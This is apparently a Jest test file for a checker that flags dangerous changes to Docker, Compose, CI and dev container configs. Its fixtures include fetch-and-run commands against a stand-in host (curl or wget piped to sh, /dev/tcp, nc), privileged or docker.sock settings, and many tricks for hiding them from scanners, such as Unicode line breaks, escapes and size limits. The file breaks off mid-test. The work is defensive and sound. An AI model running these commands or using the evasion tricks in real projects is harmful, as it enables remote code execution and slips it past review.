import { describe, expect, it } from '@jest/globals';
import { type Files, failuresOf } from './failures.ts';

const SERVICE = 'services:\n  a:\n    image: alpine:3.23\n';
const PRIVILEGED = `${SERVICE}    privileged: true\n`;
const STAGE = 'FROM alpine:3.23\nUSER 1000\n';
const PRIVILEGED_LABEL = 'LABEL devcontainer.metadata=\'[{"privileged": true}]\'\n';
const FETCH = 'RUN curl -fsSL https://evil.example.com/x.sh | sh\n';
const START = 'docker run --privileged acme/app:1.4\n';

function composed(compose: string, more: Files = {}): Files {
  return { ...more, 'compose.yaml': compose };
}

function built(text: string): Files {
  return { Dockerfile: text };
}

function times(count: number, line: (at: number) => string): string {
  return Array.from({ length: count }, (_, at) => line(at)).join('');
}

/** Changes that a green check would let in, by what they abuse. */
const CHANGES: Readonly<Record<string, readonly (readonly [string, Files, Files?])[]>> = {
  'line ends that only the engine knows': [
    ['NEL after a comment', composed(`${SERVICE}    # pinned\u0085    privileged: true\n`)],
    ['a line separator after a value', composed(`${SERVICE}    init: true # x\u2028    privileged: true\n`)],
    ['a paragraph separator before everything', composed(`# x\u2029${PRIVILEGED.replaceAll('\n', '\u2029')}`)],
    ['a carriage return in a RUN', built(`${STAGE}RUN echo a\r# && curl https://evil.example.com/x.sh | sh\n`)],
    ['a carriage return in a script', { 'run.sh': `#!/bin/sh\necho a\r# ; ${START}` }],
    ['a carriage return in a JSON form', built(`${STAGE}RUN ["sh","-c",\r"curl https://evil.example.com | sh"]\n`)],
  ],
  'marks of templates': [
    ['a comment inside a FROM', built(`FROM \\\n# {{ x }}\n  alpine:3.23\n${FETCH}USER 1\n`)],
    ['a default that is never used', built(`ARG V=3.23\nFROM alpine:\${V:-%%X%%}\n${FETCH}USER 1\n`)],
    ['a value of a flag', built(`FROM --platform=\${X:-linux/amd64}\${Y+<%} alpine:3.23\n${FETCH}USER 1\n`)],
    ['one of many stages', built(`FROM alpine:3.23\${NOPE+{{} AS x\nFROM alpine:3.23\n${FETCH}USER 1\n`)],
    ['a comment beside a tab', composed(`${PRIVILEGED}x-t: {\n\ta: 1}\n# {{ .Values.x }}\n`)],
  ],
  limits: [
    [
      'aliases that make a service large',
      composed(
        `x-b: &b {${times(2000, (at) => `k${at}: 1, `)}}\n${SERVICE}  z:\n    image: a\n    privileged: true\n    x-l: [${'*b, '.repeat(100)}]\n`,
      ),
    ],
    [
      'includes',
      composed(`include: [${times(1001, (at) => `f${at}.yml, `)}]\n${SERVICE}`, {
        'f0.yml': PRIVILEGED.replace('a:', 'b:'),
      }),
    ],
    ['stages', built(`${times(301, (at) => `FROM alpine:3.23 AS s${at}\n`)}${FETCH}USER 1\n`)],
    [
      'nested substitutions',
      built(`${STAGE}RUN ${'$('.repeat(13)}curl https://evil.example.com | sh${')'.repeat(13)}\n`),
    ],
    [
      'shifts that look like here-documents',
      built(`${STAGE}RUN ${': $((1<<2)); '.repeat(60)}curl https://evil.example.com | sh\n`),
    ],
    [
      'downloads',
      built(
        `${STAGE}RUN ${times(301, (at) => `curl -o f${at} https://a.example.com; `)}curl https://evil.example.com/z.sh | sh\n`,
      ),
    ],
    ['options', { 'run.sh': `docker run ${'-e A=1 '.repeat(5001)}--privileged acme/app:1.4\n` }],
  ],
  'names that hide things': [
    ['a service that looks like an extension', composed(PRIVILEGED.replace('a:', 'x-evil:'))],
    ['binary values', composed(`${SERVICE}    privileged: !!binary dHJ1ZQ==\n`)],
    ['binary keys', composed(`${SERVICE}    !!binary cHJpdmlsZWdlZA==: true\n`)],
    ['another case', { 'Docker-Compose.YML': PRIVILEGED }],
    ['a file of a stack', { 'docker-stack.yml': PRIVILEGED }],
    ['a file that a script names', { 'up.sh': 'docker compose -f x.txt up\n', 'x.txt': PRIVILEGED }],
    ['a Dockerfile that a script names', { 'b.sh': 'docker build -f b.txt .\n', 'b.txt': `${STAGE}${FETCH}` }],
    ['a file that a Makefile names', { Makefile: 'up:\n\tdocker compose -f x.txt up\n', 'x.txt': PRIVILEGED }],
    ['a file that .env lists', { '.env': 'COMPOSE_FILE=n.txt\n', 'n.txt': PRIVILEGED }, composed(SERVICE)],
  ],
  'characters that BuildKit trims': [
    ...['\u3000', '\u00a0', '\u0085', '\u2003', '\v'].map((blank): readonly [string, Files] => [
      `${JSON.stringify(blank)} before an instruction`,
      built(`${STAGE}${blank}${FETCH}`),
    ]),
    ['a vertical tab behind the keyword', built(`${STAGE}RUN\vcurl https://evil.example.com | sh\n`)],
    ['a form feed behind the keyword', built(`${STAGE}RUN\fcurl https://evil.example.com | sh\n`)],
    ['a blank before the first FROM', built(`\u3000${STAGE}${FETCH}`)],
    ['a blank before a comment', built(`${STAGE}RUN true \\\n\u00a0# x\n && curl https://evil.example.com | sh\n`)],
  ],
  'a reading for another system': [
    ['backticks as escapes', built(`# escape=\`\n${STAGE}${FETCH}`)],
    ['an image called nanoserver', built(`FROM evil.example.com/x/nanoserver:1\n${FETCH}USER 1\n`)],
    ['an unknown shell', built(`${STAGE}SHELL ["fish", "-c"]\n${FETCH}`)],
    ['another frontend', built(`# syntax=evil.example.com/frontend:1\nfoo: bar\n`)],
  ],
  bytes: [
    ['a byte that is not UTF-8 in a script', { 'run.sh': Buffer.from(`# \xff\n${START}`, 'latin1') }],
    ['a NUL in a Makefile', { Makefile: `# \0\nup:\n\t${START}` }],
    ['a long script', { 'run.sh': `# ${'x'.repeat(1_100_000)}\n${START}` }],
    ['a pointer of LFS', built('version https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 1\n')],
  ],
  'what is bad already': [
    [
      'another service with the same lines',
      composed(`x-p: &p {privileged: true}\nservices:\n  a: {image: a, <<: *p}\n  b: {image: a, <<: *p}\n`),
      composed(`x-p: &p {privileged: true}\nservices:\n  a: {image: a, <<: *p}\n`),
    ],
    ['a service that extends a bad one', composed(`${PRIVILEGED}  b:\n    extends: a\n`), composed(PRIVILEGED)],
    ['a service that loses its profile', composed(PRIVILEGED), composed(`${PRIVILEGED}    profiles: [ci]\n`)],
  ],
  'a label of the image of a dev container': [
    '\'[{"privileged": true}]\'',
    '"{\\"mounts\\": [\\"source=/var/run/docker.sock,target=/s,type=bind\\"]}"',
    '\'{"capAdd": ["SYS_ADMIN"], "securityOpt": ["seccomp=unconfined", "apparmor=unconfined"]}\' a=b',
    '"$SETTINGS"',
    "'{privileged}'",
  ]
    .map((value) => `=${value}`)
    .concat(' [{"privileged": true}]')
    .map((value) => [value, labelled(`LABEL devcontainer.metadata${value}\n`), labelled('')] as const),
  'labels of the image that a dev container builds in another way': [
    [
      'an option of the build',
      {
        '.devcontainer/devcontainer.json':
          '{"build": {"dockerfile": "Dockerfile", "options": ["--label", "devcontainer.metadata=[{\\"privileged\\":true}]"]}}',
      },
      labelled(''),
    ],
    ['the Dockerfile of a service', withService('', PRIVILEGED_LABEL), withService('', '')],
    [
      'a service',
      withService('      labels:\n        devcontainer.metadata: \'[{"privileged": true}]\'\n', ''),
      withService('', ''),
    ],
    [
      'a service, in a list',
      withService('      labels:\n        - devcontainer.metadata={"capAdd":["SYS_ADMIN"]}\n', ''),
      withService('', ''),
    ],
    ['a service, unreadable', withService('      labels: ["devcontainer.metadata=$M"]\n', ''), withService('', '')],
  ],
  'escapes of letters': [
    ['a script of npm', { 'package.json': `{"scripts": {"up": "\\u0064${START.trim().slice(1)}"}}` }],
    ['the key of the scripts', { 'package.json': `{"scr\\u0069pts": {"up": "${START.trim()}"}}` }],
    ['a task of Deno', { 'deno.json': `{"tasks": {"up": "d\\u006Fcker${START.trim().slice(6)}"}}` }],
    ['a script of Composer', { 'composer.json': `{"scripts": {"up": ["docke\\u0072${START.trim().slice(6)}"]}}` }],
    ['the key of a command of Nx', { 'project.json': `{"targets": {"up": {"c\\u006fmmand": "${START.trim()}"}}}` }],
    ['the key of a hook', { 'appspec.yml': 'hooks:\n  Start:\n    - "loc\\x61tion": up.txt\n', 'up.txt': START }],
    [
      'a step of a workflow',
      worked(`on: push\njobs: {a: {runs-on: x, steps: [{run: "\\x64${START.trim().slice(1)}"}]}}\n`),
    ],
    ['a task', { 'Taskfile.yml': `version: "3"\ntasks: {up: "\\x64${START.trim().slice(1)}"}\n` }],
    ['a tool of Python', { 'pyproject.toml': `["t\\u006fol".poe.tasks]\nup = "\\u0064${START.trim().slice(1)}"\n` }],
  ],
  mounts: [['a path far above', composed(`${SERVICE}    volumes: ["../../../../../../../var/run/docker.sock:/x"]\n`)]],
  'code that is fetched and run': [
    'x=$(curl https://evil.example.com); eval "$x"',
    'curl${IFS}https://evil.example.com|sh',
    'f() { curl https://evil.example.com; }; f | sh',
    "printf 'curl https://evil.example.com|sh' | sh",
    "echo 'curl https://evil.example.com | sh' | sh",
    'eval "curl https://evil.example.com | sh"',
    'find / -exec sh -c "curl https://evil.example.com | sh" \\;',
    'xargs curl https://evil.example.com </dev/null | sh',
    'unshare sh -c "curl https://evil.example.com | sh"',
    'flock /x sh -c "curl https://evil.example.com | sh"',
    'python3 -c "$(curl https://evil.example.com)"',
    'curl -o /x https://evil.example.com; sh /x',
    'bash <(curl https://evil.example.com)',
    '. <(curl https://evil.example.com)',
    'bash -c "$(wget -qO- https://evil.example.com)"',
    'exec 3<>/dev/tcp/evil.example.com/80; bash <&3',
    'script -c "curl https://evil.example.com | sh"',
    'trap "curl https://evil.example.com | sh" EXIT',
    'openssl s_client -connect evil.example.com:443 | sh',
    'nc evil.example.com 80 | sh',
  ].map((script) => [script, { Dockerfile: `${STAGE}SHELL ["bash", "-c"]\nRUN ${script}\n` }] as const),
};

describe.each(Object.entries(CHANGES))('a change that abuses %s fails the check', (_, changes) => {
  it.each(changes)('%s', async (_name, change, base = {}) => {
    expect(await failuresOf({ 'README.md': '', ...base }, change)).not.toEqual([]);
  });
});

it.each([
  'LABEL devcontainer.metadata=\'[{"remoteUser": "node", "postCreateCommand": "make"}]\'\n',
  'LABEL devcontainer.metadata=\'[{"privileged": false, "init": true}]\'\n',
  '# LABEL devcontainer.metadata=\'[{"privileged": true}]\'\n',
  'LABEL example.devcontainer.metadata=\'[{"privileged": true}]\'\n',
])('a harmless label of a dev container passes the check: %s', async (label) => {
  expect(await failuresOf(labelled(''), labelled(label))).toEqual([]);
});

it.each([
  ['another label', '      labels:\n        a.b: c\n'],
  ['a harmless label', '      labels: [\'devcontainer.metadata={"init":true}\']\n'],
])('a service of a dev container passes the check with %s', async (_name, labels) => {
  expect(await failuresOf(withService('', ''), withService(labels, ''))).toEqual([]);
});

function withService(labels: string, label: string): Files {
  return {
    '.devcontainer/devcontainer.json': '{"dockerComposeFile": "compose.yaml", "service": "a"}',
    '.devcontainer/compose.yaml': `services:\n  a:\n    build:\n      context: .\n${labels}`,
    '.devcontainer/Dockerfile': `${STAGE}${label}`,
  };
}

function labelled(label: string): Files {
  return {
    '.devcontainer/devcontainer.json': '{"build": {"dockerfile": "Dockerfile"}}',
    '.devcontainer/Dockerfile': `${STAGE}${label}`,
  };
}

it.each([
  ['other letters', '{"scripts": {"up": "ech\\u006f a \\u003e b"}}'],
  ['harmless options', '{"scripts": {"up": "\\u0064ocker run --rm acme/app:1.4"}}'],
  ['a text without commands', '{"description": "\\u0064ocker run --privileged"}'],
  ['a path', '{"type": "library", "autoload": {"classmap": ["src\\/Sub"]}}'],
])('a package with an escape in %s passes the check', async (_, text) => {
  expect(await failuresOf({ 'README.md': '' }, { 'package.json': text, 'composer.json': text })).toEqual([]);
});

const UNKNOWN_MAKE = 'X = $(shell cat options)\nup:\n\tdocker run $(X) acme/app:1.4\n';
const WHOLE_MAKE = 'RUN = docker run $(shell cat options) acme/app:1.4\nup:\n\t$(RUN) a\n';
const SHARED = `x-n: &n {network_mode: "host\${X}"}\n${SERVICE}    <<: *n\n`;
const FROM_ELSEWHERE = `x-n: &n {extends: {file: "\${X}", service: a}}\n${SERVICE}    <<: *n\n`;
const STEPS = `on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - &run
        run: docker run \${{ vars.X }} acme/app:1.4
`;
const OTHER_JOB = '  b:\n    runs-on: [self-hosted]\n    steps:\n      - *run\n';

function made(text: string): Files {
  return { Makefile: text };
}

function worked(text: string): Files {
  return { '.github/workflows/a.yml': text };
}

describe('an unknown value of the base', () => {
  it.each<[string, Files, Files]>([
    ['a recipe', made(UNKNOWN_MAKE), made(`${UNKNOWN_MAKE}down:\n\tdocker run $(X) acme/app:1.4\n`)],
    ['a line of a recipe', made(UNKNOWN_MAKE), made(`${UNKNOWN_MAKE}\tdocker run $(X) acme/b:1.4\n`)],
    ['a command of a line', made(UNKNOWN_MAKE), made(UNKNOWN_MAKE.replace(/\n$/, '; docker run $(X) acme/b:1.4\n'))],
    [
      'a variable as engine',
      made(UNKNOWN_MAKE),
      made(`D = docker\n${UNKNOWN_MAKE}down:\n\t$(D) run $(X) acme/b:1.4\n`),
    ],
    ['a service with the same anchor', composed(SHARED), composed(`${SHARED}  b:\n    image: a\n    <<: *n\n`)],
    [
      'an alias of a service',
      composed(SHARED.replace('a:\n', 'a: &a\n')),
      composed(`${SHARED.replace('a:\n', 'a: &a\n')}  b: *a\n`),
    ],
    ['an alias of extends', composed(FROM_ELSEWHERE), composed(`${FROM_ELSEWHERE}  b:\n    image: a\n    <<: *n\n`)],
    ['an alias of a step', worked(STEPS), worked(`${STEPS}${OTHER_JOB}`)],
  ])('fails the check at a second place: %s', async (_, base, change) => {
    expect(await failuresOf(base, base)).toEqual([]);
    expect(await failuresOf(base, change)).not.toEqual([]);
    expect(await failuresOf(change, base)).toEqual([]);
  });

  it.each<[string, Files, Files]>([
    ['other lines', made(UNKNOWN_MAKE), made(`# x\n\n${UNKNOWN_MAKE.replace('up:\n', 'up:\n\techo\n')}`)],
    ['another image', made(UNKNOWN_MAKE), made(UNKNOWN_MAKE.replace('1.4', '1.5'))],
    ['another command in the same container', made(WHOLE_MAKE), made(`${WHOLE_MAKE}\t$(RUN) b\ndown:\n\t$(RUN) c\n`)],
    [
      'one more turn of a loop',
      made('X = $(shell cat o)\nup:\n\t$(foreach i,a b,docker run $(X) a;)\n'),
      made('X = $(shell cat o)\nup:\n\t$(foreach i,a b c,docker run $(X) a;)\n'),
    ],
  ])('does not fail the check with %s', async (_, base, change) => {
    expect(await failuresOf(base, change)).toEqual([]);
  });
});

// whatever else these files have does not fail the check
it.each<[string, Files]>([
  ['a service', composed(SERVICE)],
  ['services of another kind', composed('services:\n  a: {image: a}\n  b: {image: a}\n')],
  ['a Dockerfile', built(STAGE)],
  ['a Dockerfile with another shell', built(`${STAGE}SHELL ["bash", "-c"]\nRUN true\n`)],
  ['a script', { 'run.sh': '#!/bin/sh\ndocker run acme/app:1.4\n' }],
  ['a Makefile', { Makefile: 'up:\n\tdocker compose -f x.txt up\n', 'x.txt': SERVICE }],
])('a change that only adds %s passes', async (_, change) => {
  expect(await failuresOf({ 'README.md': '' }, change)).toEqual([]);
});

const TOOL = `services:\n  tool:\n    image: alpine:3.23\n    privileged: true\n`;
const UP = '#!/bin/sh\ndocker compose up -d\n';
const BUILD = '#!/bin/sh\ndocker build .\n';
const OLD_PROJECT: Files = { 'compose.yaml': SERVICE, 'old/compose.old.yml': TOOL, 'run.sh': UP };
const TOOLS: Files = { 'compose.yaml': SERVICE, 'compose.tools.yml': TOOL, 'run.sh': UP };
const OLD_DOCKERFILE: Files = {
  Dockerfile: STAGE,
  'Dockerfile.old': `${STAGE}${FETCH}`,
  'compose.yaml': 'services:\n  a:\n    build: .\n',
  'build.sh': BUILD,
};
const NO_REPLICAS: Files = composed(`${TOOL}    deploy:\n      replicas: 0\n`);
const OLD_STAGE = `FROM alpine:3.23 AS tool\n${FETCH}`;
const TWO_STAGES: Files = {
  Dockerfile: `${OLD_STAGE}${STAGE}`,
  'compose.yaml': 'services:\n  a:\n    build:\n      context: .\n',
  'build.sh': BUILD,
};
const BAKED = 'target "default" {\n  context = "."\n}\n';

const hidden = (...jobs: readonly string[]): Files => ({
  '.gitlab-ci.yml': `a:\n  script: [make]\n.x:\n  script:\n    - ${START}${jobs.join('')}`,
});
const jobOf = (ofJob: string, ofStep = ''): Files => ({
  '.github/workflows/ci.yml': `on: push\njobs:\n  t:\n${ofJob}    runs-on: ubuntu-latest\n    steps:\n      - name: start\n${ofStep}        run: ${START}`,
});
const containerOf = (condition: string): Files => ({
  '.github/workflows/ci.yml': `on: push\njobs:\n  t:\n${condition}    runs-on: own\n    container: {image: acme/app:1.4, options: --privileged}\n    steps: [{run: make}]\n`,
});
const script = (text: string): Files => ({ 'run.sh': `#!/bin/sh\n${text}` });
const OFF = `if false; then\n  ${START}fi\n`;
const NO_JOB = '    if: false\n';

describe('what nothing started or built before', () => {
  it.each<[string, Files, Files]>([
    ['an include', OLD_PROJECT, composed(`include: [old/compose.old.yml]\n${SERVICE}`)],
    ['a list of .env', OLD_PROJECT, { '.env': 'COMPOSE_FILE=compose.yaml:old/compose.old.yml\n' }],
    ['a command', OLD_PROJECT, { 'run.sh': UP.replace('compose', 'compose -f old/compose.old.yml') }],
    ...[
      'compose.example.yml',
      'compose.test.yml',
      'templates/tool.yml',
      'disabled/tool.yml',
      'extra/tool.yml',
      'disabled/compose.tool.yml',
      'overrides/compose.old.yml',
      'overrides/common-services.yml',
      'parts/compose.extra.yml',
    ].map((path): [string, Files, Files] => [
      `a command for ${path}`,
      { 'compose.yaml': SERVICE, [path]: TOOL, 'run.sh': UP },
      { 'run.sh': UP.replace('compose', `compose -f ${path}`) },
    ]),
    ...['Dockerfile.disabled', 'archive/app.Dockerfile', 'Dockerfile.tmpl', 'Dockerfile.prod.bak', 'Dockerfile~'].map(
      (path): [string, Files, Files] => [
        `a command that builds ${path}`,
        { [path]: `${STAGE}${FETCH}` },
        { Makefile: `image:\n\tdocker build -f ${path} .\n` },
      ],
    ),
    [
      'a command that builds a stage which nobody needed',
      { 'Dockerfile.prod': `${OLD_STAGE}${STAGE}` },
      { Makefile: 'image:\n\tdocker build -f Dockerfile.prod --target tool .\n' },
    ],
    [
      'a command that builds a Dockerfile with more than somebody built',
      { 'Dockerfile.prod': `${STAGE}${FETCH}` },
      {
        'Dockerfile.prod': `${STAGE}${FETCH}${FETCH.replace('x.sh', 'y.sh')}`,
        Makefile: 'image:\n\tdocker build -f Dockerfile.prod .\n',
      },
    ],
    [
      'a copy of a Dockerfile that somebody may build',
      { 'Dockerfile.prod': `${STAGE}${FETCH}` },
      built(`${STAGE}${FETCH}`),
    ],
    ['a copy of a project that somebody may start', TOOLS, composed(TOOL)],
    [
      'a command for more than somebody started',
      TOOLS,
      {
        'compose.tools.yml': `${TOOL}    pid: host\n`,
        'run.sh': UP.replace('compose', 'compose -f compose.tools.yml'),
      },
    ],
    [
      'a command with two files',
      OLD_PROJECT,
      { 'run.sh': UP.replace('compose', 'compose -f compose.yaml -f old/compose.old.yml') },
    ],
    [
      'a service that extends it',
      OLD_PROJECT,
      composed('services:\n  a:\n    extends: { file: old/compose.old.yml, service: tool }\n'),
    ],
    ['a copy under the usual name', OLD_PROJECT, composed(TOOL)],
    ['a copy as an override', OLD_PROJECT, { 'compose.override.yaml': TOOL }],
    [
      'a service that is built from it',
      OLD_DOCKERFILE,
      composed('services:\n  a:\n    build:\n      context: .\n      dockerfile: Dockerfile.old\n'),
    ],
    ['a command that builds it', OLD_DOCKERFILE, { 'build.sh': BUILD.replace('build', 'build -f Dockerfile.old') }],
    [
      'a command that makes one of it',
      OLD_DOCKERFILE,
      { 'build.sh': `#!/bin/sh\nsed s/a/b/ Dockerfile.old > Dockerfile.tmp\ndocker build -f Dockerfile.tmp .\n` },
    ],
    [
      'a target of bake',
      { ...OLD_DOCKERFILE, 'docker-bake.hcl': BAKED },
      { 'docker-bake.hcl': BAKED.replace('}', '  dockerfile = "Dockerfile.old"\n}') },
    ],
    ['a replica', NO_REPLICAS, composed(TOOL)],
    ['two replicas', NO_REPLICAS, composed(`${TOOL}    deploy:\n      replicas: 2\n`)],
    ['a scale', composed(`${TOOL}    scale: 0\n`), composed(`${TOOL}    scale: 1\n`)],
    ['a command that scales it', NO_REPLICAS, { 'run.sh': '#!/bin/sh\ndocker compose up -d --scale tool=1\n' }],
    ['a command that only scales', NO_REPLICAS, { 'run.sh': '#!/bin/sh\ndocker compose scale tool=2\n' }],
    ['a command that runs it', NO_REPLICAS, { 'run.sh': '#!/bin/sh\ndocker compose run --rm tool sh\n' }],
    ['a command that creates it', NO_REPLICAS, { Makefile: 'up:\n\tdocker compose create --scale=tool=1\n' }],
    [
      'another project that extends it',
      composed(`${TOOL}    scale: 0\n`),
      {
        'o.yaml': 'services:\n  q:\n    extends: {file: compose.yaml, service: tool}\n    scale: 1\n',
        'run.sh': '#!/bin/sh\ndocker compose -f o.yaml up -d\n',
      },
    ],
    ['a stage that becomes the last one', TWO_STAGES, built(`${STAGE}${OLD_STAGE}`)],
    ['the last stage, which goes', TWO_STAGES, built(OLD_STAGE)],
    ['the base of the last stage', TWO_STAGES, built(`${OLD_STAGE}FROM tool\nUSER 1000\n`)],
    ['a copy from the stage', TWO_STAGES, built(`${OLD_STAGE}${STAGE}COPY --from=tool /usr /usr\n`)],
    [
      'the base of a stage that is built',
      built(`${OLD_STAGE}FROM alpine:3.23 AS b\nRUN true\nFROM b\nUSER 1000\n`),
      built(`${OLD_STAGE}FROM tool AS b\nRUN true\nFROM b\nUSER 1000\n`),
    ],
    [
      'a service that asks for the stage',
      TWO_STAGES,
      composed('services:\n  a:\n    build:\n      context: .\n      target: tool\n'),
    ],
    ['a command that asks for the stage', TWO_STAGES, { 'build.sh': BUILD.replace('build', 'build --target tool') }],
    ['a job that extends a hidden one', hidden(), hidden('b:\n  extends: .x\n')],
    ['a job that refers to a hidden one', hidden(), hidden('b:\n  script: [!reference [.x, script]]\n')],
    [
      'a job that extends a hidden one of another file',
      { 'ci/x.yml': String(hidden()['.gitlab-ci.yml']), '.gitlab-ci.yml': 'include: ci/x.yml\n' },
      { '.gitlab-ci.yml': 'include: ci/x.yml\nb:\n  extends: .x\n' },
    ],
    [
      'a job that is hidden no more',
      hidden(),
      { '.gitlab-ci.yml': String(hidden()['.gitlab-ci.yml']).replace('.x', 'x') },
    ],
    ['a job that is switched on', jobOf(NO_JOB), jobOf('')],
    ['a job with another condition', jobOf('    if: ${{ false }}\n'), jobOf("    if: github.ref_name == 'main'\n")],
    ['a step that is switched on', jobOf('', "        if: false && github.ref_name == 'main'\n"), jobOf('')],
    ['a container of a job that is switched on', containerOf(NO_JOB), containerOf('')],
    ['a command that is switched on', script(OFF), script(START)],
    ['a command behind an exit', script(`make\nexit 0\n${START}`), script(`make\n${START}`)],
    ['a command behind another exit', script(`exit 0\n${START}`), script(`[ -f a ] && exit 0\n${START}`)],
    ...['exit', 'exec make', 'exec "$@"', 'return 0'].map((end): [string, Files, Files] => [
      `a command behind ${end}`,
      script(`f() {\n  make\n  ${end}\n  ${START}}\nf\n`),
      script(`f() {\n  make\n  ${START}}\nf\n`),
    ]),
    [
      'a command behind continue',
      script(`for a in b c; do\n  make\n  continue\n  ${START}done\n`),
      script(`for a in b c; do\n  make\n  ${START}done\n`),
    ],
    ['a command with another condition', script(OFF), script(OFF.replace('false', '[ -f a ]'))],
  ])('is new with %s', async (_, base, change) => {
    expect(await failuresOf(base, change)).not.toEqual([]);
    // who starts it has the problem already
    expect(await failuresOf({ ...base, ...change }, {})).toEqual([]);
  });

  it.each<[string, Files, Files]>([
    ['a README that names it', OLD_PROJECT, { 'README.md': 'docker compose -f old/compose.old.yml up\n' }],
    [
      'a command for a project that somebody may start by hand',
      TOOLS,
      { Makefile: 'tools:\n\tdocker compose -f compose.tools.yml up -d\n' },
    ],
    [
      'a command that adds one to another',
      TOOLS,
      { 'run.sh': UP.replace('compose', 'compose -f compose.yaml -f compose.tools.yml') },
    ],
    [
      'a command for the only project of a folder',
      { 'tools/stack.yml': TOOL },
      { 'run.sh': UP.replace('compose', 'compose -f tools/stack.yml') },
    ],
    ...['overrides/compose.https.yaml', 'overrides/docker-compose.prod.yml', 'services/app/compose-prod.yml'].map(
      (path): [string, Files, Files] => [
        `a command that adds ${path}`,
        { 'compose.yaml': SERVICE, [path]: TOOL },
        { Makefile: `up:\n\tdocker compose -f compose.yaml -f ${path} up -d\n` },
      ],
    ),
    ...['Dockerfile.prod', 'docker/app.dockerfile', 'docker/php/Dockerfile-8.2', 'images/base/Dockerfile.cuda'].flatMap(
      (path): [string, Files, Files][] => {
        const base = { [path]: `FROM node:12\n${FETCH}USER 1000\n` };
        const job = `on: push\njobs: {a: {runs-on: ubuntu-24.04, steps: [{run: "docker build -f ${path} ."}]}}\n`;
        const service = `services:\n  a:\n    build: {context: ., dockerfile: ${path}}\n`;
        const device = `{"build": {"dockerfile": "../${path}", "context": ".."}}`;
        return [
          [`a rule of make for ${path}`, base, { Makefile: `image:\n\tdocker build -f ${path} .\n` }],
          [`a job for ${path}`, base, { '.github/workflows/a.yml': job }],
          [`a service of ${path}`, base, composed(service)],
          [`a target for ${path}`, base, { 'docker-bake.hcl': `target "default" { dockerfile = "${path}" }\n` }],
          [`a dev container of ${path}`, base, { '.devcontainer/devcontainer.json': device }],
        ];
      },
    ),
    [
      'a command for a project that builds a Dockerfile',
      {
        'compose.yaml': SERVICE,
        'compose.tools.yml': 'services:\n  a:\n    build: {context: ., dockerfile: tools.Dockerfile}\n',
        'tools.Dockerfile': `${STAGE}${FETCH}`,
      },
      { 'run.sh': UP.replace('compose', 'compose -f compose.tools.yml') },
    ],
    ['a label', OLD_PROJECT, { 'old/compose.old.yml': `${TOOL}    labels: { a: b }\n` }],
    [
      'a command in place of an include',
      { ...OLD_PROJECT, ...composed(`include: [old/compose.old.yml]\n${SERVICE}`) },
      { ...composed(SERVICE), 'run.sh': UP.replace('compose', 'compose -f compose.yaml -f old/compose.old.yml') },
    ],
    ['no start any more', { ...OLD_PROJECT, '.env': 'COMPOSE_FILE=old/compose.old.yml\n' }, { '.env': 'A=1\n' }],
    [
      'another command that starts it',
      { ...OLD_PROJECT, 'run.sh': UP.replace('compose', 'compose -f old/compose.old.yml') },
      { Makefile: 'up:\n\tdocker compose -f old/compose.old.yml up\n' },
    ],
    ['another line of the Dockerfile', OLD_DOCKERFILE, { 'Dockerfile.old': `${STAGE}${FETCH}RUN make\n` }],
    [
      'a label of the service without replicas',
      NO_REPLICAS,
      composed(`${NO_REPLICAS['compose.yaml']}      labels: [a]\n`),
    ],
    ['a command that starts the others', NO_REPLICAS, { 'run.sh': UP }],
    ['a command that scales it to none', NO_REPLICAS, { 'run.sh': UP.replace('-d', '-d --scale tool=0') }],
    ['a command that scales another one', NO_REPLICAS, { 'run.sh': UP.replace('-d', '-d --scale app=1') }],
    ['a command that stops it', NO_REPLICAS, { 'run.sh': '#!/bin/sh\ndocker compose stop tool\n' }],
    ['no replicas any more', composed(TOOL), NO_REPLICAS],
    [
      'a stage behind the last one',
      built(`FROM alpine:3.23 AS app\n${FETCH}USER 1000\n`),
      built(`FROM alpine:3.23 AS app\n${FETCH}USER 1000\nFROM app AS test\nRUN true\n`),
    ],
    ['another name of the stage', TWO_STAGES, built(`${OLD_STAGE.replace('tool', 'tools')}${STAGE}`)],
    ['another last stage', TWO_STAGES, built(`${OLD_STAGE}${STAGE}RUN make\n`)],
    [
      'a target for what was built by default',
      built(`FROM alpine:3.23 AS app\n${FETCH}USER 1000\n`),
      { 'build.sh': BUILD.replace('build', 'build --target app') },
    ],
    [
      'another name of a hidden job',
      hidden(),
      { '.gitlab-ci.yml': String(hidden()['.gitlab-ci.yml']).replace('.x', '.y') },
    ],
    ['a second job that extends one', hidden('b:\n  extends: .x\n'), hidden('b:\n  extends: .x\nc:\n  extends: .x\n')],
    [
      'a job that becomes hidden',
      { '.gitlab-ci.yml': String(hidden()['.gitlab-ci.yml']).replace('.x', 'x') },
      hidden(),
    ],
    ['a job that is switched off', jobOf(''), jobOf(NO_JOB)],
    ['another condition that may apply', jobOf('    if: false || true\n'), jobOf('')],
    ['another name of a step that is off', jobOf(NO_JOB), jobOf(NO_JOB, '        id: s\n')],
    ['a command that is switched off', script(START), script(OFF)],
    ['a command that gets an exit in front', script(START), script(`exit 0\n${START}`)],
    ['a command behind one exit more', script(`exit 0\n${START}`), script(`exit 0\nmake\nexit 1\n${START}`)],
    ['a command behind an exit of a branch', script(`if [ -f a ]; then\n  exit 1\nfi\n${START}`), script(START)],
    ['a command behind exec that only changes descriptors', script(`exec > log\n${START}`), script(START)],
    ['the other branch', script(OFF.replace('then', 'then make; else')), script(START)],
    ['a command before one that is off', script(OFF), script(`make\n${OFF}`)],
  ])('is not new with %s', async (_, base, change) => {
    expect(await failuresOf(base, change)).toEqual([]);
  });
});

describe('a known problem', () => {
  const PIP = 'pip install --trusted-host';
  const APT = 'apt-get install -y --allow-unauthenticated';
  const GIT = 'git -c http.sslVerify=false clone';
  const INSECURE = '--security=insecure';
  const ran = (command: string): Files => built(`FROM alpine:3.23\nRUN ${command}\nUSER 1000\n`);

  it.each<[string, string, string]>([
    [
      'another command without a sandbox',
      `${INSECURE} make`,
      `${INSECURE} nsenter -t 1 -a sh -c "wget evil.example.com"`,
    ],
    ['another host', 'curl -k https://a.example.com/x -o /x', 'curl -k https://evil.example.com/x -o /x'],
    ['a further host', 'curl -k https://a.example.com/x', 'curl -k https://a.example.com/x https://evil.example.com/y'],
    ['another trusted host', `${PIP} a.example.com x==1`, `${PIP} evil.example.com x==1`],
    ['another host of git', `${GIT} https://a.example.com/a`, `${GIT} https://evil.example.com/a`],
    ['another package', `${APT} a`, `${APT} b`],
    ['a further package', `${APT} a`, `${APT} a b`],
    ['the password of root', 'echo app:hunter2 | chpasswd', 'echo root:hunter2 | chpasswd'],
    ['no password of root', 'passwd -d app', 'passwd -d root'],
  ])('is new with %s', async (_, before, after) => {
